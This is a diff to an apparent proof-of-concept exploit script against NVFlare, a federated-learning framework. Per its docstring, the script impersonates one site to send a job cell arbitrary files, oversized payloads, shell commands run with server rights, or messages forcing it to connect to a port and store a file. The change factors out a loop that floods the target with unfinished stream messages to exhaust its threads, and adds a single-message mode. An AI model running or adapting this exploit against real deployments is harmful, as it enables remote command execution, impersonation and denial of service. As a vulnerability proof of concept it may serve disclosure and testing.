@@ -4,6 +4,7 @@
 connects as a part of its own site and sends the job cell ``TARGET`` a call as if
 ``ORIGIN`` had: the bytes in the file ``WHAT``; or so many MB as an answer to nothing;
 or the shell command ``WHAT``, as the server could;
+or, for ``-``, a message without an end;
 or, for a number with a colon before it, messages that make NVFlare connect to that
 port, store a file, leave the server, and wait for their rest.
 NVFlare's own classes do all the rest.
@@ -50,14 +51,8 @@ UNFINISHED = 200
 """Messages without an end: more than NVFlare has threads."""
 
 
-def abuse(cell, site, target, port):
-    send = cell.core_cell.fire_and_forget
-    encoding = {StreamHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}
-    unreadable = Message(encoding, b"unreadable")
-    cell.send_blob(CellChannel.SERVER_COMMAND, "submit_update", target, unreadable)
-    send(CellChannel.CELLNET, CellChannelTopic.Bye, target, Message())
-    time.sleep(1.0)
-    for number in range(UNFINISHED):
+def send_unfinished(cell, target, count):
+    for number in range(count):
         piece = {
             StreamHeaderKey.CHANNEL: CellChannel.SERVER_COMMAND,
             StreamHeaderKey.TOPIC: "get_task",
@@ -66,7 +61,20 @@ def abuse(cell, site, target, port):
             StreamHeaderKey.SIZE: 1000,
             StreamHeaderKey.DATA_TYPE: StreamDataType.CHUNK,
         }
-        send(STREAM_CHANNEL, STREAM_DATA_TOPIC, target, Message(piece, b"1"))
+        message = Message(piece, b"1")
+        cell.core_cell.fire_and_forget(
+            STREAM_CHANNEL, STREAM_DATA_TOPIC, target, message
+        )
+
+
+def abuse(cell, site, target, port):
+    send = cell.core_cell.fire_and_forget
+    encoding = {StreamHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}
+    unreadable = Message(encoding, b"unreadable")
+    cell.send_blob(CellChannel.SERVER_COMMAND, "submit_update", target, unreadable)
+    send(CellChannel.CELLNET, CellChannelTopic.Bye, target, Message())
+    time.sleep(1.0)
+    send_unfinished(cell, target, UNFINISHED)
     file = lobs.dump_to_bytes({"file": Datum.file_datum(__file__)})
     encoding = {MessageHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}
     send("none", "none", "server", Message(encoding, file))
@@ -106,6 +114,10 @@ def main(startup, port, origin, target, what):
         time.sleep(0.1)
     if what.startswith(":"):
         abuse(cell, site, target, what[1:])
+    if what == "-":
+        send_unfinished(cell, target, 1)
+        time.sleep(1.0)
+        say("sent")
     if what.isdigit():
         blob = Message(payload=bytes(int(what) * 2**20))
         sent = cell.send_blob(CellChannel.RETURN_ONLY, "collab:call", target, blob)
